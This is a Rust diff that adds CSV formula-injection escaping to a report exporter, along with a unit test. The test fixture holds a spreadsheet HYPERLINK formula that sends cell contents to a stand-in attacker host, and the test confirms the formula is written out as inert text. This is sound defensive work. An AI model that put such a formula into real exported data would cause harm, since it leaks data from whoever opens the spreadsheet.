@@ -4,11 +4,24 @@ use std::path::{Path, PathBuf};
 
 use super::{DURATION_BUCKETS, Report, ReportError, write_file};
 
+/// A cell a spreadsheet would take for a formula (`=`, `+`, `-`, `@`, a tab or a carriage return
+/// first; text from the bus or a lead, such as a conclusion or an agent's name) gets a leading
+/// `'`, so opening the report never runs it. Numbers (`-3`, `+12%`) stay numbers.
+fn cell(s: &str) -> std::borrow::Cow<'_, str> {
+    let formula = s.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let number = s.trim_end_matches('%').parse::<f64>().is_ok();
+    if formula && !number {
+        std::borrow::Cow::Owned(format!("'{s}"))
+    } else {
+        std::borrow::Cow::Borrowed(s)
+    }
+}
+
 fn to_bytes(head: &[&str], rows: &[Vec<String>]) -> Result<Vec<u8>, ReportError> {
     let mut w = csv::Writer::from_writer(Vec::new());
     w.write_record(head)?;
     for r in rows {
-        w.write_record(r)?;
+        w.write_record(r.iter().map(|c| cell(c).into_owned()))?;
     }
     w.into_inner()
         .map_err(|e| ReportError::Csv(csv::Error::from(e.into_error())))
@@ -163,4 +176,26 @@ pub fn write(report: &Report, dir: &Path, stem: &str) -> Result<Vec<PathBuf>, Re
         out.push(path);
     }
     Ok(out)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn text_a_spreadsheet_would_run_is_written_as_text() {
+        let rows = vec![vec![
+            "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"詳細\")".to_string(),
+            "@SUM(A1:A9)".to_string(),
+            "-12%".to_string(),
+            "+3".to_string(),
+            "-2+3".to_string(),
+            "田中".to_string(),
+        ]];
+        let out =
+            String::from_utf8(to_bytes(&["a", "b", "c", "d", "e", "f"], &rows).unwrap()).unwrap();
+        let line = out.lines().nth(1).unwrap();
+        assert!(line.starts_with("\"'=HYPERLINK("), "{line}");
+        assert!(line.contains(",'@SUM(A1:A9),-12%,+3,'-2+3,田中"), "{line}");
+    }
 }
